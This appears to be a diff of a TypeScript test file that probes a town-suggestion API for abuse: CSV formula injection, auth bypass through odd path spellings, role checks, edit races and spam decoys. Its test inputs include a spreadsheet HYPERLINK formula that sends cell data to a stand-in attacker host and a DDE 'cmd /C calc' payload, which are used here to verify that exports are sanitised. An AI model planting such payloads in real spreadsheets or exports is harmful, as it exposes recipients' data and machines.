@@ -4,17 +4,17 @@ import type { Context } from 'hono';
 import { describe, expect, it, vi } from 'vitest';
 import { handleError } from '../../worker/http/errors.ts';
 import worker from '../../worker/index.ts';
-import { SuggestionReceiptSchema } from '../../worker/schemas/suggestions.ts';
+import { SuggestionReceiptSchema, SuggestionStatusSchema } from '../../worker/schemas/suggestions.ts';
 import { parseCsv } from '../csv-reader.ts';
-import { fullAnswers, getJson, newKey, request, submit, TOWN, withinOneRateWindow } from '../helpers.ts';
-import { ADDITION, admin, CORRECTION, count, EDITOR, send, suggest } from '../suggestion-helpers.ts';
+import { ADMIN_TOKENS, fullAnswers, getParsed, KNOWN_TOWN, newKey, request, submit, withinOneRateWindow } from '../helpers.ts';
+import { ADDITION, admin, CORRECTION, count, send, suggest } from '../suggestion-helpers.ts';
 
 /**
  * A hostile pass over the public suggestions (issue 14): what an outsider and a
  * staff member of the wrong role can do with them, each answered by a test.
  */
 const OTHER_TOWN = 'beijing-xiaotangshanzhen';
-const importCsv = (csv: string) => request('POST', '/api/v1/admin/imports?dry_run=true', { headers: { Authorization: `Bearer ${EDITOR}`, 'Content-Type': 'text/csv' }, body: csv });
+const importCsv = (csv: string) => request('POST', '/api/v1/admin/imports?dry_run=true', { headers: { Authorization: ADMIN_TOKENS.editor, 'Content-Type': 'text/csv' }, body: csv });
 
 const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
 /** Cells a spreadsheet would evaluate (OWASP "CSV injection"), as test/api/csv-injection.test.ts finds them. */
@@ -29,7 +29,7 @@ describe('the import row an acceptance prefills', () => {
     const name = '=HYPERLINK("http://evil.example/?d="&A1,"尼山镇")';
     const detail = "-2+3+cmd|' /C calc'!A0 未收录";
     const receipt = await send({ ...ADDITION, town_name: name, detail });
-    const res = await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
+    const res = await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
     expect(res.status).toBe(200);
     const { csv } = await res.json<{ csv: string }>();
     expect(formulaCells(csv)).toEqual([]);
@@ -46,12 +46,12 @@ describe('crediting the public through the import', () => {
 
   it('credits an accepted suggestion only on the list and town it was about', async () => {
     const receipt = await send({ ...CORRECTION, proposed_status: 'retained', proposed_date: '2020-06-30', source: '建村〔2016〕221号' });
-    expect((await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).status).toBe(200);
+    expect((await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).status).toBe(200);
     const problems = async (csv: string) => (await (await importCsv(csv)).json<{ problems: { code: string; column: string | null }[] }>()).problems.filter((p) => p.column === 'suggestion');
     // Its own row: nothing to say about the credit.
-    expect(await problems(row(TOWN, 'mohurd-2016-batch1', receipt))).toEqual([]);
+    expect(await problems(row(KNOWN_TOWN, 'mohurd-2016-batch1', receipt))).toEqual([]);
     // Another list, or another town: the public did not suggest that event.
-    expect(await problems(row(TOWN, 'mohurd-2017-batch2', receipt))).not.toEqual([]);
+    expect(await problems(row(KNOWN_TOWN, 'mohurd-2017-batch2', receipt))).not.toEqual([]);
     expect(await problems(row(OTHER_TOWN, 'mohurd-2016-batch1', receipt))).not.toEqual([]);
   });
 });
@@ -60,7 +60,7 @@ describe('suggestions the data moved away from', () => {
   it('accepts one whose town and list are gone since (a reload of the data) with a dry run saying so, never a 500', async () => {
     const receipt = await send(CORRECTION);
     await env.DB.prepare("UPDATE suggestions SET town_id = 'vanished-zhen', list_id = 'vanished-list' WHERE id = ?").bind(receipt).run();
-    const res = await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
+    const res = await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
     expect(res.status).toBe(200);
     const { report } = await res.json<{ report: { valid: boolean; problems: { code: string }[] } }>();
     expect(report.valid).toBe(false);
@@ -70,9 +70,9 @@ describe('suggestions the data moved away from', () => {
   it('never credits the public with a decoy, whose receipt its bot holds', async () => {
     const decoy = SuggestionReceiptSchema.parse(await (await suggest({ ...CORRECTION, website: 'http://spam.example' })).json()).receipt;
     await env.DB.prepare("UPDATE suggestions SET status = 'accepted' WHERE id = ?").bind(decoy).run();
-    const { problems } = await (await importCsv(`town,list,status,effective_date,document,suggestion\n${TOWN},mohurd-2016-batch1,retained,2020-06-30,建村〔2016〕221号,${decoy}\n`)).json<{ problems: { code: string }[] }>();
+    const { problems } = await (await importCsv(`town,list,status,effective_date,document,suggestion\n${KNOWN_TOWN},mohurd-2016-batch1,retained,2020-06-30,建村〔2016〕221号,${decoy}\n`)).json<{ problems: { code: string }[] }>();
     expect(problems.map((p) => p.code)).toContain('unknown-suggestion');
-    expect((await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${decoy}/accept`)).status).toBe(404);
+    expect((await admin('editor', 'POST', `/api/v1/admin/suggestions/${decoy}/accept`)).status).toBe(404);
   });
 });
 
@@ -83,7 +83,7 @@ describe('two editors at once', () => {
     ['accept and decline', 'accept', 'decline'],
   ] as const)('%s: one decision wins, the other is a 409, and one audit entry is written', async (_, first, second) => {
     const receipt = await send({ ...CORRECTION, contact: { email: 'race@example.com' }, contact_consent: true });
-    const decide = (action: 'accept' | 'decline') => admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/${action}`, action === 'decline' ? { reason: '重复' } : undefined);
+    const decide = (action: 'accept' | 'decline') => admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/${action}`, action === 'decline' ? { reason: '重复' } : undefined);
     const statuses = (await Promise.all([decide(first), decide(second)])).map((r) => r.status).sort();
     expect(statuses).toEqual([200, 409]);
     expect(await count("SELECT COUNT(*) AS n FROM audit_log WHERE entity = 'suggestion' AND entity_id = ? AND action IN ('accept', 'decline')", receipt)).toBe(1);
@@ -100,22 +100,22 @@ describe('staff routes under other spellings', () => {
     ['/api/v1/%61dmin/suggestions', 'GET'],
     ['/api/v1/admin/suggestions?limit=1', 'GET'],
   ])('%s needs the editor role like its plain spelling', async (path, method) => {
-    const attempts: Record<string, string>[] = [{}, { Authorization: 'Bearer ' }, { Authorization: 'Basic dGVzdDp0ZXN0' }, { Authorization: 'Bearer test-editor-token x' }, { Authorization: 'bearer  test-auditor-token' }];
+    const attempts: Record<string, string>[] = [{}, { Authorization: 'Bearer ' }, { Authorization: 'Basic dGVzdDp0ZXN0' }, { Authorization: `${ADMIN_TOKENS.editor} x` }, { Authorization: 'bearer  test-auditor-token' }];
     for (const headers of attempts) {
       expect((await request(method, path, { headers })).status, `${path} ${JSON.stringify(headers)}`).toBeGreaterThanOrEqual(400);
     }
-    for (const token of ['test-auditor-token', 'test-surveys-token']) {
-      const res = await admin(token, method, path);
-      expect([400, 403, 404], `${path} ${token}`).toContain(res.status);
+    for (const role of ['auditor', 'surveys'] as const) {
+      const res = await admin(role, method, path);
+      expect([400, 403, 404], `${path} ${role}`).toContain(res.status);
     }
   });
 
   it('an auditor cannot decide a suggestion by an odd spelling of the decision path', async () => {
     const receipt = await send(CORRECTION);
     for (const path of [`/api/v1/admin/suggestions/${receipt}/accept/`, `/api/v1/admin//suggestions/${receipt}/accept`, `/api/v1/admin/suggestions/${receipt}/%61ccept`]) {
-      expect([400, 403, 404]).toContain((await admin('test-auditor-token', 'POST', path)).status);
+      expect([400, 403, 404]).toContain((await admin('auditor', 'POST', path)).status);
     }
-    expect((await getJson(`/api/v1/suggestions/${receipt}`)).body.status).toBe('received');
+    expect((await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${receipt}`)).body.status).toBe('received');
   });
 });
 
@@ -228,7 +228,7 @@ describe('contact details once a suggestion is decided', () => {
     const receipt = SuggestionReceiptSchema.parse(await (await suggest(body, { key })).json()).receipt;
     const without = await send({ ...CORRECTION, detail: body.detail });
     for (const id of [receipt, without]) {
-      const res = await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${id}/${action}`, action === 'decline' ? { reason: '测试' } : undefined);
+      const res = await admin('editor', 'POST', `/api/v1/admin/suggestions/${id}/${action}`, action === 'decline' ? { reason: '测试' } : undefined);
       expect(res.status).toBe(200);
     }
     const row = (id: string) => env.DB.prepare('SELECT contact, fingerprint FROM suggestions WHERE id = ?').bind(id).first<{ contact: string | null; fingerprint: string }>();
@@ -252,7 +252,7 @@ describe('contact details once a suggestion is decided', () => {
 describe('a flood of suggestions about one town', () => {
   it('drops invisible characters from the names, so that a copy with zero-width spaces is the same town', async () => {
     const receipt = await send({ ...ADDITION, town_name: '\u200b尼\u200b山\u200d镇\ufeff', province: '山\u2060东省', city: '济\u200c宁市' });
-    const { body } = await getJson(`/api/v1/suggestions/${receipt}`);
+    const { body } = await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${receipt}`);
     expect(body.suggested).toMatchObject({ town_name: '尼山镇', province: '山东省', city: '济宁市' });
     // A name of nothing but invisible characters is no name.
     expect((await suggest({ ...ADDITION, town_name: '\u200b\u200d' })).status).toBe(400);
@@ -267,7 +267,7 @@ describe('a flood of suggestions about one town', () => {
     ];
     await send({ ...ADDITION, town_name: '别的镇' });
     const receipts = async (query: string) => {
-      const res = await admin(EDITOR, 'GET', `/api/v1/admin/suggestions?limit=500&${query}`);
+      const res = await admin('editor', 'GET', `/api/v1/admin/suggestions?limit=500&${query}`);
       expect(res.status, query).toBe(200);
       const page = await res.json<{ items: { receipt: string }[]; total: number }>();
       expect(page.total).toBe(page.items.length);
@@ -277,8 +277,8 @@ describe('a flood of suggestions about one town', () => {
     expect(await receipts(`town=${encodeURIComponent(name)}&list=mohurd-2017-batch2`)).toEqual(flood.slice(0, 2).sort());
     // A known town is found by its id too.
     const byId = await send(CORRECTION);
-    expect(await receipts(`town=${TOWN}&status=received`)).toContain(byId);
-    expect((await admin(EDITOR, 'GET', `/api/v1/admin/suggestions?town=${'x'.repeat(500)}`)).status).toBe(400);
+    expect(await receipts(`town=${KNOWN_TOWN}&status=received`)).toContain(byId);
+    expect((await admin('editor', 'GET', `/api/v1/admin/suggestions?town=${'x'.repeat(500)}`)).status).toBe(400);
   });
 });
 
@@ -301,7 +301,7 @@ describe('what the sender wrote', () => {
     // The form promises that what is suggested is shown only to whoever holds the receipt; a sender may write anything there.
     const detail = `2019年复核保留，我的电话13900001111 ${newKey()}`;
     const receipt = await send({ ...CORRECTION, detail, proposed_status: 'retained', proposed_date: '2020-06-30', source: '建村〔2016〕221号' });
-    const { csv } = await (await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).json<{ csv: string }>();
+    const { csv } = await (await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).json<{ csv: string }>();
     expect(csv).not.toContain('13900001111');
     const [header, row] = parseCsv(csv);
     expect(row![header!.indexOf('note')]).toBe('');
@@ -313,12 +313,12 @@ describe('an Idempotency-Key of another endpoint', () => {
   it('is a key of its own for a suggestion: neither replays nor refuses the other', async () => {
     const key = newKey();
     const answers = await fullAnswers('public');
-    expect((await submit('public', { town_id: TOWN, answers, consent: { participation: true } }, { key })).status).toBe(201);
+    expect((await submit('public', { town_id: KNOWN_TOWN, answers, consent: { participation: true } }, { key })).status).toBe(201);
     const res = await suggest(CORRECTION, { key });
     expect(res.status).toBe(201);
     expect(res.headers.get('Idempotent-Replayed')).toBeNull();
     expect(SuggestionReceiptSchema.parse(await res.json()).receipt).toMatch(/^s-/);
-    const again = await submit('public', { town_id: TOWN, answers, consent: { participation: true } }, { key });
+    const again = await submit('public', { town_id: KNOWN_TOWN, answers, consent: { participation: true } }, { key });
     expect(again.headers.get('Idempotent-Replayed')).toBe('true');
   });
 });
@@ -351,13 +351,13 @@ describe('the logs', () => {
 describe('the receipt, once its suggestion is imported', () => {
   it('stays private: the change feed, the history, the Atom feed and the status-events CSV say only that the public suggested it', async () => {
     const receipt = await send({ ...CORRECTION, proposed_status: 'warned', proposed_date: '2022-05-31', source: '建村〔2016〕221号' });
-    const { csv } = await (await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).json<{ csv: string }>();
+    const { csv } = await (await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).json<{ csv: string }>();
     const since = (await env.DB.prepare('SELECT MAX(seq) AS n FROM change_log').first<number>('n')) ?? 0;
-    const imported = await request('POST', '/api/v1/admin/imports', { headers: { Authorization: `Bearer ${EDITOR}`, 'Content-Type': 'text/csv' }, body: csv });
+    const imported = await request('POST', '/api/v1/admin/imports', { headers: { Authorization: ADMIN_TOKENS.editor, 'Content-Type': 'text/csv' }, body: csv });
     expect(imported.status, await imported.clone().text()).toBe(201);
     const changes = await (await request('GET', `/api/v1/changes?since=${since}`)).text();
     expect(changes).toContain('"suggested_by_public":true');
-    for (const path of [`/api/v1/changes?since=${since}`, `/api/v1/towns/${TOWN}/history`, '/feeds/changes.atom', '/api/v1/status-events?format=csv']) {
+    for (const path of [`/api/v1/changes?since=${since}`, `/api/v1/towns/${KNOWN_TOWN}/history`, '/feeds/changes.atom', '/api/v1/status-events?format=csv']) {
       const res = await request('GET', path);
       expect(res.status, path).toBeLessThan(400);
       expect(await res.text(), path).not.toContain(receipt);
@@ -373,9 +373,9 @@ describe('a decoy, as the bot that sent it sees it', () => {
     expect(decoy.headers.get('Location')?.replace(/s-[0-9a-f-]{36}/, 'R')).toBe(real.headers.get('Location')?.replace(/s-[0-9a-f-]{36}/, 'R'));
     const receipts = await Promise.all([real, decoy].map(async (r) => SuggestionReceiptSchema.parse(await r.json()).receipt));
     for (const r of receipts) expect(r).toMatch(/^s-[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
-    const [a, b] = await Promise.all(receipts.map(async (r) => (await getJson(`/api/v1/suggestions/${r}`)).body));
-    const { receipt: _a, submitted_at: _sa, ...realRest } = a;
-    const { receipt: _b, submitted_at: _sb, ...decoyRest } = b;
+    const [a, b] = await Promise.all(receipts.map(async (r) => (await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${r}`)).body));
+    const { receipt: _a, submitted_at: _sa, ...realRest } = a!;
+    const { receipt: _b, submitted_at: _sb, ...decoyRest } = b!;
     expect(decoyRest).toEqual(realRest);
     const pages = await Promise.all(receipts.map(async (r) => (await (await request('GET', `/suggestions/${r}?lang=zh`)).text()).replace(/s-[0-9a-f-]{36}/g, 'R').replace(/\d{4}-\d\d-\d\d \d\d:\d\d/g, 'T')));
     expect(pages[1]).toBe(pages[0]);
@@ -385,7 +385,7 @@ describe('a decoy, as the bot that sent it sees it', () => {
 describe('the source a sender gives', () => {
   it('shows a look-alike host as what it is (punycode), and keeps the URL one line', async () => {
     const receipt = await send({ ...CORRECTION, source: 'https://www.ɡov.cn/notice.html' });
-    expect((await getJson(`/api/v1/suggestions/${receipt}`)).body.suggested.source).toMatch(/^https:\/\/www\.xn--/);
+    expect((await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${receipt}`)).body.suggested.source).toMatch(/^https:\/\/www\.xn--/);
   });
 
   it.each([
